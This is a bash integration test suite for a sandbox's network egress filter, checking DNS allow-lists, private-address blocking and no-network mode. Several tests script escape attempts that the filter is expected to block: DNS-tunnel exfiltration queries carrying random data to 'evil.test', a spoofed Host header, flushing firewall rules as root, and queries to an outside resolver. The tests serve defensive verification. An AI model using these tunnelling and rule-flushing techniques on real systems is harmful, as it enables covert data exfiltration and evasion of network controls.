#!/bin/bash
# The sealed network end to end: real sandboxes, real servers on the host's loopback.
#
# The whole suite runs in private mount and network namespaces (unshare -mn): its own loopback
# (servers may take ports 53 and 80 without touching anyone's), and its own /etc/hosts and
# /etc/resolv.conf bind-mounted over the host's, so nothing of the machine is changed. The
# host's resolver points at a counting DNS server: any query the egress engine forwarded would
# show up there.
. "$(dirname "$0")/netns.sh"
. "$(dirname "$0")/lib.sh"

ip link set lo up
SRV=$T_OUT/srv
mkdir -p "$SRV/www"
echo "hello from the host" >"$SRV/www/index.html"
printf '127.0.0.1 localhost\n::1 localhost\n127.0.0.1 private.test\n' >"$T_OUT/hosts"
printf 'nameserver 127.0.0.1\n' >"$T_OUT/resolv.conf"
mount --bind "$T_OUT/hosts" /etc/hosts
mount --bind "$T_OUT/resolv.conf" /etc/resolv.conf
python3 "$ROOT/tests/integration/net_servers.py" "$SRV" &
SRV_PID=$!
trap 'kill $SRV_PID 2>/dev/null; rm -rf "$MATCHLOCK_HOME" "$T_OUT"' EXIT
for _ in $(seq 50); do [ -e "$SRV/ready" ] && break; sleep 0.1; done
[ -e "$SRV/ready" ] || { echo "servers did not start"; echo "0 passed, 1 failed"; exit 1; }

# A root filesystem with the rule-flushing fixture added.
NETFS=$T_OUT/rootfs-net
cp -a "$ROOTFS" "$NETFS"
cp "$BUILD/nft-flush" "$NETFS/bin/nft-flush"

count() { cat "$SRV/$1.count" 2>/dev/null || echo 0; }
# run_in ARGS... -- SCRIPT: matchlock run with the test rootfs, script through sh -c.
run_in() {
	local args=()
	while [ "$1" != -- ]; do args+=("$1"); shift; done
	shift
	ml run --rootfs "$NETFS" "${args[@]}" -- sh -c "$1"
}
WEB=(--allow-host web.test --add-host web.test:127.0.0.1)

t_allowed_http_and_raw_tcp() {
	run_in "${WEB[@]}" -- 'wget -qO- http://web.test:8080/index.html; echo "wget=$?"
		echo ping-pong | nc web.test 7007; echo "nc=$?"'
	expect_eq status "$RC" 0
	expect_match stdout "$OUT" "hello from the host"
	expect_match stdout "$OUT" "wget=0"
	expect_match "echo through the relay" "$OUT" "ping-pong"
	expect_clean
}

t_bulk_both_ways_with_half_close() {
	# 4 MB through the TCP echo: the guest half-closes, the echo ends, bytes must all return.
	run_in "${WEB[@]}" -- 'head -c 4000000 /dev/urandom >/tmp/in; sha256sum </tmp/in | cut -c1-64
		nc web.test 7007 </tmp/in | sha256sum | cut -c1-64'
	expect_eq status "$RC" 0
	local a b
	a=$(sed -n 1p <<<"$OUT")
	b=$(sed -n 2p <<<"$OUT")
	[ ${#a} = 64 ] || fail "no checksum: $OUT"
	expect_eq "echoed bytes" "$b" "$a"
}

t_unlisted_name_nxdomain_and_raw_connect_refused() {
	local before
	before=$(count echo)
	run_in "${WEB[@]}" -- 'nslookup other.test; echo "ns=$?"
		echo raw-echo | nc 198.18.0.77 7007'
	expect_match nslookup "$OUT" "NXDOMAIN"
	expect_match "nslookup status" "$OUT" "ns=1"
	[[ $OUT == *raw-echo* ]] && fail "the raw connect got through: $OUT"
	expect_match "explained on stderr" "$ERR" "DNS denied other.test A: no --allow-host rule matches"
	expect_match "connect explained" "$ERR" "connect denied - 198.18.0.77 port 7007: not an address"
	expect_eq "echo server reached" "$(count echo)" "$before"
}

t_glob_semantics() {
	run_in --allow-host '*.ex.test' -- 'for n in a.ex.test b.c.ex.test ex.test xex.test; do
		if nslookup $n >/dev/null 2>&1; then echo "$n=yes"; else echo "$n=no"; fi; done'
	expect_match "subdomain" "$OUT" "a.ex.test=yes"
	expect_match "deeper subdomain" "$OUT" "b.c.ex.test=yes"
	expect_match "apex is not a subdomain" "$OUT" "ex.test=no"
	expect_match "suffix without a dot" "$OUT" "xex.test=no"
	run_in --allow-host 'one.test,two.test' --allow-host '*' -- 'nslookup anything.example >/dev/null && echo star=yes'
	expect_match "star" "$OUT" "star=yes"
	run_in --allow-host 'One.Test' -- 'nslookup one.test >/dev/null && echo ci=yes; nslookup x.one.test >/dev/null || echo exact=yes'
	expect_match "case-insensitive" "$OUT" "ci=yes"
	expect_match "exact name only" "$OUT" "exact=yes"
}

t_private_address_blocked_unless_opted_in() {
	# private.test is 127.0.0.1 in the host's /etc/hosts (this namespace's), not --add-host.
	local before
	before=$(count echo)
	run_in --allow-host private.test -- 'echo priv-echo | nc private.test 7007
		wget -qO- http://private.test/ 2>&1; echo "wget=$?"'
	# The guest's connect is accepted locally by the agent, then reset: nothing comes back.
	[[ $OUT == *priv-echo* ]] && fail "the echo server answered: $OUT"
	expect_match "HTTP gets a 403 naming the reason" "$OUT" "403"
	expect_match "reason" "$ERR" "private.test resolves to 127.0.0.1 \\(loopback\\); private addresses are blocked"
	expect_eq "echo server reached" "$(count echo)" "$before"
	run_in --allow-host private.test --allow-private-ips -- 'echo opted-in | nc private.test 7007'
	expect_match "with --allow-private-ips" "$OUT" "opted-in"
}

t_http_host_header_must_match() {
	run_in "${WEB[@]}" -- 'printf "GET / HTTP/1.0\r\nHost: evil.test\r\n\r\n" | nc web.test 80
		wget -qO- http://web.test/index.html'
	expect_match "403" "$OUT" "HTTP/1.1 403 Forbidden"
	expect_match "body names the rule" "$OUT" "Host header evil.test does not match the connection's host name web.test"
	expect_match "the right Host passes" "$OUT" "hello from the host"
}

t_no_network() {
	run_in --no-network -- 'cat /etc/resolv.conf 2>/dev/null; nslookup web.test 127.0.0.1 >/dev/null 2>&1; echo "ns=$?"
		echo x | nc -w 2 198.18.0.1 7007; echo "nc=$?"; ip route'
	expect_match "no DNS" "$OUT" "ns=1"
	expect_match "no connect" "$OUT" "nc=1"
	[[ $OUT == *default* ]] && fail "a default route exists: $OUT"
	expect_eq "echo server reached" "$(count echo)" "$(count echo)"
	return 0
}

t_root_flushing_rules_gains_nothing() {
	local before
	before=$(count echo)
	run_in "${WEB[@]}" -- 'a=$(grep " web.test" /etc/hosts | head -1 | cut -d" " -f1)
		echo before | nc -w 2 $a 7007
		nft-flush || exit 9
		echo after | nc -w 3 $a 7007; echo "nc=$?"
		nslookup -timeout=2 web.test 8.8.8.8 >/dev/null 2>&1; echo "ns=$?"'
	expect_match "rules were in place" "$OUT" "before"
	expect_match "flushed" "$OUT" "flushed"
	[[ $OUT == *after* ]] && fail "a connection got through after the flush: $OUT"
	expect_match "DNS to an outside server" "$OUT" "ns=1"
	expect_eq "echo connections" "$(count echo)" "$((before + 1))"
}

t_dns_tunnel_never_leaves_the_host() {
	# The counter works: a query from the host reaches it.
	local before
	before=$(count dns)
	python3 -c 'import socket; s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.settimeout(2)
s.sendto(bytes.fromhex("1234010000010000000000000474657374000001 0001".replace(" ","")),("127.0.0.1",53)); s.recv(512)'
	expect_eq "counter control" "$(count dns)" "$((before + 1))"
	before=$(count dns)
	local label
	label=$(head -c 27 /dev/urandom | od -An -tx1 | tr -d ' \n')
	run_in --allow-host "*.web.test" -- "nslookup -type=TXT secret-$label.web.test; nslookup $label.$label.evil.test
		nslookup -type=TXT $label.evil.test; nslookup -type=MX web.test; echo done"
	expect_match "ran" "$OUT" "done"
	expect_match "TXT refused" "$ERR" "DNS denied secret-$label.web.test TXT: only A, AAAA and CNAME"
	expect_eq "queries that reached the host's DNS server" "$(count dns)" "$before"
}

t_udp_and_icmp_go_nowhere() {
	local before
	before=$(count udp)
	run_in "${WEB[@]}" -- 'a=$(grep " web.test" /etc/hosts | head -1 | cut -d" " -f1)
		for i in 1 2 3; do echo dgram | nc -u -w 1 $a 5300; done
		ping -c 1 -W 2 $a >/dev/null 2>&1; echo "ping=$?"'
	expect_match "ping" "$OUT" "ping=1"
	expect_eq "datagrams that reached the host" "$(count udp)" "$before"
}

t_ipv6() {
	run_in --allow-host v6.test --add-host 'v6.test:[::1]' -- 'nslookup -type=AAAA v6.test | grep -q fd6d: && echo aaaa=yes
		a=$(grep "^fd6d.* v6.test" /etc/hosts | cut -d" " -f1)
		wget -qO- "http://[$a]:8080/index.html"'
	expect_match "AAAA answer" "$OUT" "aaaa=yes"
	expect_match "over IPv6 to ::1" "$OUT" "hello from the host"
}

t_bad_flags() {
	ml run --rootfs "$NETFS" --allow-host 'a.*.com' -- true
	expect_one_line_error
	ml run --rootfs "$NETFS" --add-host 'nocolon' -- true
	expect_one_line_error
}

run_tests "$@"
